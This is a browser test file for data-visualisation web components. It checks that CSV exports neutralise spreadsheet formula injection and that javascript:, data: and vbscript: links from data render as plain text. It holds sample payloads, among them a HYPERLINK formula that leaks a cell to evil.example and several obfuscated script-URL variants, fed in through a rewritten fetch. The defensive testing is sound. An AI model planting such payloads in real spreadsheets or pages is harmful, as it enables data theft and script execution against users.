/**
 * Injection through data: a text that a spreadsheet would run as a formula is neutralised in every
 * CSV download, and a link from data that is not http(s) (`javascript:`, `data:` …) is shown as
 * text, never as a link — in source lines, case and designation sources, event markers and the
 * timeline's clickable marks. Hostile data is served by rewriting the real dataset files on their
 * way to the elements (`setDataBaseURL` to a path this page's fetch answers).
 */
import { expect, fixture, html } from '@open-wc/testing';
import Papa from 'papaparse';
import '../../components/fpk-cases/define.js';
import '../../components/fpk-timeline/define.js';
import '../../components/fpk-trend/define.js';
import { setDataBaseURL } from '../../src/load.js';
import { captureDownload, settled } from './helpers.js';

type Element_ = HTMLElement & {
  status: string;
  csv: string | null;
  vega: { ready: Promise<{ data(name: string): { url: string | null }[] } | null> };
};

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
const PWNED = '__fpkPwned';
/** Spelled as hostile pages spell them: each would run script or open an attacker's document if it became an href. */
const HOSTILE_URLS = [
  `javascript:window.top.${PWNED}=1`,
  `data:text/html,<script>top.${PWNED}=1</script>`,
  ` JaVaScRiPt:window.top.${PWNED}=1`,
  `java\tscript:window.top.${PWNED}=1`,
  `vbscript:${PWNED}`,
];

/** Every formula-like cell of a CSV must be a number; returns the offending cells. */
function liveFormulas(csv: string): string[] {
  const { data } = Papa.parse<string[]>(csv, { skipEmptyLines: true });
  return data.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?(e-?\d+)?$/.test(c));
}

function clickCSV(el: HTMLElement): Promise<{ text: string }> {
  return captureDownload(() => el.shadowRoot!.querySelector<HTMLButtonElement>('button[data-action="csv"]')!.click());
}

describe('CSV downloads: spreadsheet formula injection', function () {
  this.timeout(30000);

  it('a series label beginning =HYPERLINK( is neutralised in the download, while negative numbers stay numbers', async () => {
    const el = await fixture<Element_>(html`<fpk-trend
      loading="eager"
      jurisdictions="US"
      drugs="synthetic-opioids"
      measure="yoy"
      from="2023-01"
      to="2024-06"
      src="/test/browser/fixtures/trend-reader.csv"
      src-date="month"
      src-value="deaths"
      src-label=${FORMULA}
    ></fpk-trend>`);
    expect((await settled(el)).type).to.equal('fpk-ready');
    const { text } = await clickCSV(el);
    expect(text).to.equal(el.csv);
    const quoted = `"'${FORMULA.replaceAll('"', '""')}"`;
    expect(text.split('\n').filter((l) => l.startsWith(`${quoted},`))).to.have.length(6);
    expect(liveFormulas(text)).to.deep.equal([]);
    // US synthetic-opioid deaths fell in 2023-24: the year-over-year column holds negative numbers, written as numbers.
    expect(text).to.match(/,-\d+(\.\d+)?,/);
  });
});

describe('links and texts from hostile data', function () {
  this.timeout(30000);
  const realFetch = window.fetch;
  let replaced = 0;

  /** Four of every five source URLs become a hostile one; every case name becomes a formula. */
  function corrupt(value: unknown, key = ''): unknown {
    if (typeof value === 'string') {
      if (/^https?:\/\//.test(value) && replaced++ % 5 !== 4) return HOSTILE_URLS[replaced % HOSTILE_URLS.length];
      return value;
    }
    if (Array.isArray(value)) return value.map((v) => corrupt(v, key));
    if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, corrupt(v, k)]));
    return value;
  }

  function corruptCaseNames(slice: { columns: string[]; rows: unknown[][] }): void {
    const i = slice.columns.indexOf('caseName');
    if (i >= 0) for (const row of slice.rows) row[i] = `${FORMULA} ${String(row[i])}`;
  }

  before(() => {
    window.fetch = async (input: RequestInfo | URL, init?: RequestInit) => {
      const url = new URL(input instanceof Request ? input.url : String(input), location.href);
      if (!url.pathname.startsWith('/hostile-data/')) return realFetch(input, init);
      const real = await realFetch(url.pathname.replace('/hostile-data/', '/datasets/'));
      const json = corrupt(await real.json()) as { columns: string[]; rows: unknown[][] };
      if (url.pathname === '/hostile-data/cases/slices/all.json') corruptCaseNames(json);
      return new Response(JSON.stringify(json), { headers: { 'content-type': 'application/json' } });
    };
    setDataBaseURL('/hostile-data/');
  });

  after(() => {
    window.fetch = realFetch;
    setDataBaseURL(new URL('../../datasets/', import.meta.url));
  });

  /** Every anchor in the element: hostile ones must have no href, the rest only http(s). */
  function anchors(el: HTMLElement): { linked: HTMLAnchorElement[]; unlinked: HTMLAnchorElement[] } {
    const all = [...el.shadowRoot!.querySelectorAll('a')];
    for (const a of all) if (a.hasAttribute('href')) expect(a.getAttribute('href'), a.outerHTML).to.match(/^https?:\/\//);
    return { linked: all.filter((a) => a.hasAttribute('href')), unlinked: all.filter((a) => !a.hasAttribute('href')) };
  }

  it('<fpk-cases>: hostile source URLs are text, not links, and case names stay inert in the CSV', async () => {
    const el = await fixture<Element_>(html`<fpk-cases></fpk-cases>`);
    expect((await settled(el)).type).to.equal('fpk-ready');
    const { linked, unlinked } = anchors(el);
    expect(unlinked.length).to.be.greaterThan(20);
    expect(linked.length).to.be.greaterThan(3);
    // A source line link too (meta.json's first source became javascript:).
    expect(el.shadowRoot!.querySelector('[part="source"] a')!.hasAttribute('href')).to.equal(false);
    // The reader still sees where the link pointed, as text.
    expect(unlinked.some((a) => /javascript:/i.test(a.textContent!))).to.equal(true);
    unlinked[0]!.click();
    expect((window as unknown as Record<string, unknown>)[PWNED]).to.equal(undefined);

    const { text } = await clickCSV(el);
    expect(text).to.contain(`"'${FORMULA.replaceAll('"', '""')} United States v.`);
    expect(liveFormulas(text)).to.deep.equal([]);
  });

  it('<fpk-timeline>: hostile URLs are neither table links nor the href of a chart mark', async () => {
    const chart = await fixture<Element_>(html`<fpk-timeline loading="eager"></fpk-timeline>`);
    expect((await settled(chart)).type).to.equal('fpk-ready');
    const view = await chart.vega.ready;
    const urls = view!.data('events').map((d) => d.url);
    expect(urls.filter((u) => u === null).length).to.be.greaterThan(5);
    for (const u of urls) if (u !== null) expect(u).to.match(/^https?:\/\//);

    const table = await fixture<Element_>(html`<fpk-timeline view="table"></fpk-timeline>`);
    expect((await settled(table)).type).to.equal('fpk-ready');
    const { unlinked } = anchors(table);
    expect(unlinked.length).to.be.greaterThan(5);
  });

  it('<fpk-trend>: event markers link only to http(s) sources', async () => {
    const el = await fixture<Element_>(
      html`<fpk-trend loading="eager" view="table" events="designations,cases" from="2019-01"></fpk-trend>`,
    );
    expect((await settled(el)).type).to.equal('fpk-ready');
    const { unlinked } = anchors(el);
    expect(el.shadowRoot!.querySelectorAll('.markers a').length).to.be.greaterThan(3);
    expect(unlinked.length).to.be.greaterThan(3);
    expect((window as unknown as Record<string, unknown>)[PWNED]).to.equal(undefined);
  });
});
